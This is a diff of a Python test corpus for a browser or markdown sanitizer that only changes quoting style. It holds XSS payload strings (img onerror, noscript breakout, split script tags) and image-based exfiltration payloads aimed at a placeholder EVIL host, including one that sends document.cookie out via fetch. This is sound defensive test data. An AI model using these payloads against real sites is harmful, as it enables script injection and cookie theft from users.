@@ -28,9 +28,9 @@ SCRIPT_PAYLOADS = [
     '<form><button formaction="javascript:window.__pwned=1">go</button></form>',
     '<input autofocus onfocus="window.__pwned=1">',
     '<marquee onstart="window.__pwned=1">x</marquee>',
-    "<noscript><p title=\"</noscript><img src=x onerror=window.__pwned=1>\">",
+    '<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>">',
     "<<script>script>window.__pwned=1<</script>/script>",
-    '<scr<script>ipt>window.__pwned=1</scr</script>ipt>',
+    "<scr<script>ipt>window.__pwned=1</scr</script>ipt>",
     "```\n</code></pre><script>window.__pwned=1</script>\n```",
     "`` <img src=x onerror=window.__pwned=1> ``",
     "**bold <img src=x onerror=window.__pwned=1> bold**",
@@ -67,8 +67,8 @@ EXFILTRATION_PAYLOADS = [
     f"| table | image |\n|---|---|\n| x | ![t]({EVIL}/table-cell.png) |",
     f"- list ![l]({EVIL}/list.png)\n  - nested ![n]({EVIL}/nested-list.png)",
     f'<img src="x" onerror="fetch(\'{EVIL}/f?\'+document.cookie)">',
-    f"![x](//evil.invalid/protocol-relative.png)",
-    f"<svg><use href=\"{EVIL}/sprite.svg#x\"/></svg>",
+    "![x](//evil.invalid/protocol-relative.png)",
+    f'<svg><use href="{EVIL}/sprite.svg#x"/></svg>',
 ]
 
 BROWSER_CORPUS = SCRIPT_PAYLOADS + EXFILTRATION_PAYLOADS
